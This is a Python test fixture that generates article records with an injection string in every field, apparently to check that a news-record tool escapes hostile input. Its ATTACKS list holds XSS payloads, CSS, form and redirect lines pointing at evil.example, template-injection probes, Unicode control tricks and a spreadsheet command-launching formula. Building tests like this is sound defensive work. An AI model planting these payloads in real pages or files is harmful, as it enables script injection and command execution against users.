"""Articles that try to act on whoever shows them: in every field a script, a handler, a style, an address."""

from __future__ import annotations

from collections.abc import Iterator

import msgspec

from onrecord.types import Record
from tests.storing import record, span, speaker, statement

# Each calls window.alert, loads from an address that tests watch, or breaks out of where it is written
ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "\" onmouseover='alert(3)' autofocus onfocus=alert(3) x=\"",
    "' onpointerenter=alert(4) '",
    "<svg onload=alert(5)><animate onbegin=alert(5) attributeName=x dur=1s></svg>",
    "<style>@import 'http://evil.example/x.css';*{background:url(http://evil.example/y)}</style>",
    "</style></title></textarea></script><script>alert(6)</script>",
    "javascript:alert(7)//",
    "data:text/html,<script>alert(8)</script>",
    "<a href=javascript:alert(9)>x</a><iframe srcdoc='<script>alert(9)</script>'></iframe>",
    "<base href=http://evil.example/><form action=http://evil.example/><input name=x>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "{{7*7}}{% raw %}${7*7}<%= 7*7 %>",
    "\u202egnihtyna\u202c\u2066x\u2069\u200f\u061c",
    "\x00\x01\x08\x1b[31m\x7f\x9b31m",
    "\ufffe\uffff\U000e0001 \u0301\u0489" + "\u0300" * 80,
    "&lt;script&gt;alert(10)&lt;/script&gt;&#x202e;",
    "]]><!--<script>alert(11)</script>--><![CDATA[",
    "=cmd|'/C calc'!A0",
    "x" * 300,
)


def articles() -> Iterator[Record]:
    """An article for each attack, with the attack in every field that an article, a speaker or a statement has."""
    for number, attack in enumerate(ATTACKS):
        office, quoted, cue = f"chef {attack}", f"que {attack} tient", f"a dit {attack} :"
        text = f"Titre {attack}\n\nAna{number} {attack}, {office}, {cue} {quoted}, puis {attack} encore.\n\n{attack}"
        who = speaker(text, f"Ana{number}", office=span(text, office), affiliation=span(text, office))
        who = msgspec.structs.replace(who, name=f"Ana{number} {attack}", anonymity=span(text, attack))
        fields = {role: (span(text, attack),) for role in ("source", "addressee", "occasion", "when")}
        one = statement(text, quoted, who, type="direct", act="deny", cue=(span(text, cue),), **fields)
        inner = statement(text, attack, who, parent=one.id, quoted_by=who)
        yield record(
            f"h{number}/{attack}", text, [one, inner], title=attack, url=attack, outlet=attack, author=attack,
            published="2026-11-26", origin=attack,
        )  # fmt: skip
